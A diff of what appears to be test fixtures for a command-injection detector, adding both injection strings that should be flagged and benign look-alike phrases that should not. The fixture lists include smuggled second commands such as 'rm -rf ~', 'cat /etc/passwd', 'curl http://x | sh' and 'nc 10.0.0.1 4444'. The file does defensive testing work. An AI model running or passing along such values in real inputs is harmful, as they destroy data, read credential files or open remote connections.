@@ -20,7 +20,7 @@ SECOND = (
     "a; touch x", "a;touch x", "a;touch", "a && touch x", "a&&touch x", "a || touch x", "a & touch x", "a | sh -c id", "a\ntouch x", "a\r\nrm x",
     "a; /usr/bin/touch x", "a;touch${IFS}x", "a;touch$IFS$9x", "a;{touch,x}", "a; curl http://x | sh", "a; sudo id", 'a"; touch x; "', "a'; touch x; '",
     'a"; touch x #', "a; python3 -c 'x'", "a; node x.js", "a; cat /etc/passwd", "a; find . -delete", "a; echo x>/tmp/y", "a; git config x=y",
-    "a; powershell -enc x", "a && whoami", "a; ls", "a; rm -rf ~", "a; make SHELL=x", "a; RM -rf /", "a & cat /etc/passwd", "a; cmd.exe /c x", "x; nc 10.0.0.1 4444",
+    "a; powershell -enc x", "a\nfile /etc/passwd", "a; Python3 -c x.y", "a; return $(touch x)", "a && whoami", "a; ls", "a; rm -rf ~", "a; make SHELL=x", "a; RM -rf /", "a & cat /etc/passwd", "a; cmd.exe /c x", "x; nc 10.0.0.1 4444",
     "80;touch x", "a;touch x;", "a %3B touch x", "a\uff1b touch x", "a%26%26touch x",
 )  # fmt: skip
 ADDRESSES = tuple(each for each in SECOND if "%" not in each and each.isascii())
@@ -53,7 +53,8 @@ WEB = (
 )  # fmt: skip
 PHRASES = (
     "First; find the thing", "name; id; email", "name|id|date", "Use $(MAKE) instead of make", "salt & pepper", "a; b", "this && that", "run `git status`", "cost: $(amount)",
-    "open | closed", "wait; then go", "5; 6", "A & B; C", "tcp port 80 && host x", "red; green; blue", "cats & dogs",
+    "open | closed", "wait; then go", "5; 6", "A & B; C", "tcp port 80 && host x", "red; green; blue", "cats & dogs", "const a = b.map(f); return a.filter((h) => !/x.y/.test(h))",
+    'Traceback:\n  File "/usr/lib/x.py", line 1', "a;\n  let b = c.d();\n  continue",
 )  # fmt: skip
 MESSAGES = (
     "fix: a; b && $(c)", 'Rename "a"; drop b', 'echo "x" | base64', "Don't panic; find a way", "don't; rm is bad", 'say "no"; rm is bad', "Use `rm -rf x; touch y`",
